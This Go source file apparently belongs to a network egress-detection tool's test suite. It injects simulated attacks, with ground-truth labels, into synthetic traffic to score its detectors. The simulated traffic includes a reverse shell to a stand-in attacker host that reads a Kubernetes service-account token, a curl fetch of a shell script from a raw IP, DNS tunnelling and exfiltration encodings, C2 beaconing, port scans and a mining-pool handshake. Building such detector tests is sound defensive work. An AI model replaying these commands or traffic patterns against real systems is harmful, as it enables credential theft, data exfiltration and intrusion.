package scenario

import (
	"encoding/base32"
	"encoding/hex"
	"math/rand/v2"
	"net/netip"
	"strconv"
	"strings"
	"time"

	"github.com/egresswatch/egresswatch/capture"
	"github.com/egresswatch/egresswatch/detect"
)

// Anomaly kinds of the detectors the suite measures besides
// detect.KindNewDestination and detect.KindVolumeSpike.
const (
	KindDNSTunnel    = detect.KindDNSTunnel
	KindBeaconing    = detect.KindBeaconing
	KindPortScan     = detect.KindPortScan
	KindCryptoMining = detect.KindCryptoMining
	KindRawIPEgress  = detect.KindRawIPEgress
	KindRuleDeny     = detect.KindRuleDeny
)

// Kinds lists every anomaly kind the suite scores, in report order.
var Kinds = []detect.Kind{
	detect.KindNewDestination, detect.KindVolumeSpike, KindDNSTunnel, KindBeaconing,
	KindPortScan, KindCryptoMining, KindRawIPEgress, KindRuleDeny,
}

// Attack is one attack injected into a workload on the monitored day, with
// its ground truth: the kind of anomaly that should catch it, and the
// kinds that may fire on it as well without being false (a port scan
// reaches many new destinations; a reverse shell to an address is raw-IP
// egress too).
type Attack struct {
	Name       string
	Workload   string
	Kind       detect.Kind
	Also       []detect.Kind
	Start, End time.Time
	What       string
	Skipped    string // why the attack did not run, when it did not

	rule *DenyRule
	run  func(s *sim, a *Attack)
}

func (a *Attack) inject(s *sim) { a.run(s, a) }

// allows reports whether an anomaly of kind k during the attack is one the
// attack explains.
func (a *Attack) allows(k detect.Kind) bool {
	if k == a.Kind {
		return true
	}
	for _, o := range a.Also {
		if o == k {
			return true
		}
	}
	return false
}

// Destinations of the attacks: addresses outside every pool the cloud
// names answer from.
var (
	c2Shell  = netip.MustParseAddr("198.51.100.66")
	rawHost  = netip.MustParseAddr("198.19.240.7")
	scanBase = [3]byte{198, 19, 250}
)

// attacks returns the attacks of the monitored day. They are injected
// into different workloads or hours, so that each alert has one
// explanation.
func (s *sim) attacks() []Attack {
	w := s.w
	day1 := s.start.Add(Day)
	at := func(h, m int) time.Time { return day1.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute) }
	w.name("drop.files.example", 60, 8, false)
	w.name("cdn-sync.update.example", 300, 9, false)
	w.name("telemetry.update.example", 300, 10, false)
	w.name("xmr.pool.example", 300, 11, false)
	w.name("shell.attacker.example", 3600, 0, false, c2Shell)
	newDest, raw := detect.KindNewDestination, KindRawIPEgress
	return []Attack{
		{Name: "reverse shell", Workload: wlAPI, Kind: newDest, Also: []detect.Kind{raw},
			Start: at(7, 10), End: at(7, 30), What: "interactive shell to shell.attacker.example:4444 (198.51.100.66)", run: reverseShell},
		{Name: "exfiltration, new destination", Workload: wlWorker, Kind: detect.KindVolumeSpike, Also: []detect.Kind{newDest},
			Start: at(9, 20), End: at(9, 24), What: "600 MB over TLS to drop.files.example in 3 min", run: exfilNew},
		{Name: "exfiltration, known destination", Workload: wlAPI, Kind: detect.KindVolumeSpike,
			Start: at(10, 30), End: at(10, 35), What: "450 MB to storage.cloud.example (learned) in 4 min", run: exfilKnown},
		{Name: "DNS tunnel", Workload: wlWorker, Kind: KindDNSTunnel,
			Start: at(11, 0), End: at(11, 20), What: "iodine-like: 2 queries/s, 150-char base32 names, NULL and TXT", run: dnsTunnel},
		{Name: "DNS exfiltration, one query", Workload: wlMetrics, Kind: KindDNSTunnel,
			Start: at(13, 5), End: at(13, 5), What: "one TXT query carrying 224 hex characters", run: dnsExfilOnce},
		{Name: "beaconing, fixed 60 s", Workload: wlFrontend, Kind: KindBeaconing, Also: []detect.Kind{newDest},
			Start: at(13, 0), End: at(16, 0), What: "HTTPS to cdn-sync.update.example every 60 s for 3 h", run: beaconFixed},
		{Name: "beaconing, 5 min ±30%", Workload: wlBlog, Kind: KindBeaconing, Also: []detect.Kind{newDest},
			Start: at(1, 0), End: at(12, 0), What: "HTTPS to telemetry.update.example every 5 min ±30% for 11 h", run: beaconJitter},
		{Name: "port scan, horizontal", Workload: wlWorker, Kind: KindPortScan, Also: []detect.Kind{newDest, raw},
			Start: at(15, 0), End: at(15, 1), What: "SYN to port 22 of 254 addresses of 198.19.250.0/24", run: scanHorizontal},
		{Name: "port scan, vertical", Workload: wlBlog, Kind: KindPortScan, Also: []detect.Kind{newDest, raw},
			Start: at(14, 0), End: at(14, 1), What: "SYN to ports 1-1024 of the database host", run: scanVertical},
		{Name: "crypto mining", Workload: wlBlog, Kind: KindCryptoMining, Also: []detect.Kind{newDest, KindBeaconing},
			Start: at(16, 0), End: at(17, 0), What: "stratum mining.subscribe to xmr.pool.example:3333, shares every 30 s", run: cryptoMining},
		{Name: "raw-IP egress", Workload: wlFrontend, Kind: KindRawIPEgress, Also: []detect.Kind{newDest},
			Start: at(18, 0), End: at(18, 1), What: "curl http://198.19.240.7/x.sh: 2 MB download, no DNS", run: rawIPEgress},
		{Name: "deny-rule hit", Workload: wlFrontend, Kind: KindRuleDeny, Also: []detect.Kind{newDest},
			Start: at(20, 0), End: at(20, 1), What: "frontend queries the database directly (rule: frontend must not reach db.shop.internal:5432)",
			rule: &DenyRule{Workload: wlFrontend, Destination: "db.shop.internal", Port: 5432, Protocol: "tcp"}, run: denyHit},
	}
}

// victim is the pod of the attacked workload at t: the oldest running.
func (s *sim) victim(a *Attack, t time.Time) *pod { return s.w.deployment(a.Workload).first(t) }

// session runs do every period (jittered by frac) from a.Start to a.End in
// the pod the attacker is in.
func (s *sim) session(a *Attack, period time.Duration, frac float64, do func(r *rand.Rand, t time.Time, p *pod)) {
	s.every(a.Name, a.Start, a.End.Add(time.Nanosecond), around(period, frac), func(r *rand.Rand, t time.Time) {
		if p := s.victim(a, t); p != nil {
			do(r, t, p)
		}
	})
}

func reverseShell(s *sim, a *Attack) {
	var sh *pod
	var port uint16
	s.session(a, 20*time.Second, 0.5, func(r *rand.Rand, t time.Time, p *pod) {
		switch {
		case sh == nil:
			sh, port = p, p.ephemeral()
			addr, at := s.w.lookup(&s.b, r, t, p, "shell.attacker.example", false)
			s.b.tcp(at.Add(time.Millisecond), p, port, tcpConn{remote: addr, port: 4444, first: []byte("sh-5.2$ "), open: true})
		case sh.alive(t):
			s.b.emit(t, sh, false, c2Shell, port, 4444, protoTCP, capture.TCPAck|capture.TCPPsh, []byte("cat /var/run/secrets/kubernetes.io/serviceaccount/token\n"), 0)
			s.b.emit(t.Add(30*time.Millisecond), sh, true, c2Shell, port, 4444, protoTCP, capture.TCPAck|capture.TCPPsh, nil, 200+r.IntN(4000))
		}
	})
}

func exfilNew(s *sim, a *Attack) {
	s.once(a.Name, a.Start, func(r *rand.Rand, t time.Time) {
		p := s.victim(a, t)
		addr, at := s.w.lookup(&s.b, r, t, p, "drop.files.example", false)
		s.b.tcp(at.Add(time.Millisecond), p, p.ephemeral(), tcpConn{remote: addr, port: 443, first: clientHello("drop.files.example"), up: 600e6, down: 20_000, dur: 3 * time.Minute})
	})
}

func exfilKnown(s *sim, a *Attack) {
	s.once(a.Name, a.Start, func(r *rand.Rand, t time.Time) {
		p := s.victim(a, t)
		addr, at := s.w.lookup(&s.b, r, t, p, "storage.cloud.example", false)
		s.b.tcp(at.Add(time.Millisecond), p, p.ephemeral(), tcpConn{remote: addr, port: 443, first: clientHello("storage.cloud.example"), up: 450e6, down: 20_000, dur: 4 * time.Minute})
	})
}

var b32 = base32.StdEncoding.WithPadding(base32.NoPadding)

// dnsTunnel sends iodine-like traffic: every query carries upstream data
// as base32 labels under the tunnel's domain and the answers carry the
// downstream, in NULL records (TXT for every fifth query).
func dnsTunnel(s *sim, a *Attack) {
	seq := 0
	s.session(a, 500*time.Millisecond, 0.3, func(r *rand.Rand, t time.Time, p *pod) {
		seq++
		data := make([]byte, 90)
		for i := range data {
			data[i] = byte(r.Uint32())
		}
		enc := strings.ToLower(b32.EncodeToString(data)) // 144 characters
		name := "p" + enc[:4] + "." + enc[4:67] + "." + enc[67:130] + "." + enc[130:] + ".t.tun.example"
		qtype, down := uint16(dnsTypeNULL), make([]byte, 100+r.IntN(120))
		if seq%5 == 0 {
			qtype = dnsTypeTXT
		}
		for i := range down {
			down[i] = 'a' + byte(r.IntN(26))
		}
		s.w.exchange(&s.b, r, t, p, name, qtype, 0, false, "", []dnsAnswer{{data: down}})
	})
}

func dnsExfilOnce(s *sim, a *Attack) {
	s.once(a.Name, a.Start, func(r *rand.Rand, t time.Time) {
		// 112 bytes as 224 hex characters: as much as fits in one name
		// (253 characters) under the attacker's domain.
		secret := make([]byte, 112)
		for i := range secret {
			secret[i] = byte(r.Uint32())
		}
		h := hex.EncodeToString(secret)
		name := h[:56] + "." + h[56:112] + "." + h[112:168] + "." + h[168:] + ".x.exfil-dns.example"
		s.w.exchange(&s.b, r, t, s.victim(a, t), name, dnsTypeTXT, 0, true, "", nil)
	})
}

func beaconFixed(s *sim, a *Attack) {
	s.session(a, time.Minute, 0.001, func(r *rand.Rand, t time.Time, p *pod) {
		addr, at := s.w.lookup(&s.b, r, t, p, "cdn-sync.update.example", false)
		s.b.tcp(at.Add(time.Millisecond), p, p.ephemeral(), tcpConn{remote: addr, port: 443, first: clientHello("cdn-sync.update.example"), up: 600, down: 300})
	})
}

func beaconJitter(s *sim, a *Attack) {
	s.session(a, 5*time.Minute, 0.3, func(r *rand.Rand, t time.Time, p *pod) {
		addr, at := s.w.lookup(&s.b, r, t, p, "telemetry.update.example", false)
		s.b.tcp(at.Add(time.Millisecond), p, p.ephemeral(), tcpConn{remote: addr, port: 443, first: clientHello("telemetry.update.example"), up: 1_200, down: 500})
	})
}

func scanHorizontal(s *sim, a *Attack) {
	s.once(a.Name, a.Start, func(r *rand.Rand, t time.Time) {
		p := s.victim(a, t)
		for i := 1; i < 255; i++ {
			dst := netip.AddrFrom4([4]byte{scanBase[0], scanBase[1], scanBase[2], byte(i)})
			s.b.tcp(t.Add(time.Duration(i)*100*time.Millisecond), p, p.ephemeral(), tcpConn{remote: dst, port: 22, reset: i%10 == 0, silent: i%10 != 0})
		}
	})
}

func scanVertical(s *sim, a *Attack) {
	s.once(a.Name, a.Start, func(r *rand.Rand, t time.Time) {
		p := s.victim(a, t)
		src := p.ephemeral()
		for port := uint16(1); port <= 1024; port++ {
			at := t.Add(time.Duration(port) * 20 * time.Millisecond)
			if port == 22 {
				s.b.tcp(at, p, src, tcpConn{remote: dbHost, port: port, first: []byte("SSH-2.0-Go\r\n")})
				continue
			}
			s.b.tcp(at, p, src, tcpConn{remote: dbHost, port: port, reset: true})
		}
	})
}

func cryptoMining(s *sim, a *Attack) {
	var miner *pod
	var port uint16
	shares := 1
	s.session(a, 30*time.Second, 0.5, func(r *rand.Rand, t time.Time, p *pod) {
		if miner == nil {
			addr, at := s.w.lookup(&s.b, r, t, p, "xmr.pool.example", false)
			miner, port = p, p.ephemeral()
			subscribe := []byte(`{"id":1,"method":"mining.subscribe","params":["cpuminer-multi/1.3.7"]}` + "\n")
			s.b.tcp(at.Add(time.Millisecond), p, port, tcpConn{remote: addr, port: 3333, first: subscribe, up: 120, down: 400, open: true})
			return
		}
		if !miner.alive(t) {
			return
		}
		addr := miner.cache["xmr.pool.example"].addr
		shares++
		submit := []byte(`{"params":["worker1","3f1a","00000000","5e4c8a1b","a8c3e19d"],"id":` + strconv.Itoa(shares) + `,"method":"mining.submit"}` + "\n")
		s.b.emit(t, miner, true, addr, port, 3333, protoTCP, capture.TCPAck|capture.TCPPsh, submit, 0)
		s.b.emit(t.Add(80*time.Millisecond), miner, false, addr, port, 3333, protoTCP, capture.TCPAck|capture.TCPPsh, []byte(`{"id":2,"result":true,"error":null}`+"\n"), 0)
	})
}

func rawIPEgress(s *sim, a *Attack) {
	s.once(a.Name, a.Start, func(r *rand.Rand, t time.Time) {
		p := s.victim(a, t)
		s.b.tcp(t, p, p.ephemeral(), tcpConn{remote: rawHost, port: 80, first: httpGet("198.19.240.7", "/x.sh"), up: 0, down: 2_000_000, dur: 2 * time.Second})
	})
}

func denyHit(s *sim, a *Attack) {
	s.once(a.Name, a.Start, func(r *rand.Rand, t time.Time) {
		p := s.victim(a, t)
		addr, at := s.w.lookup(&s.b, r, t, p, "db.shop.internal", false)
		s.b.tcp(at.Add(time.Millisecond), p, p.ephemeral(), tcpConn{remote: addr, port: 5432, first: []byte{0, 0, 0, 8, 0x04, 0xd2, 0x16, 0x2f}, up: 2_000, down: 50_000})
	})
}
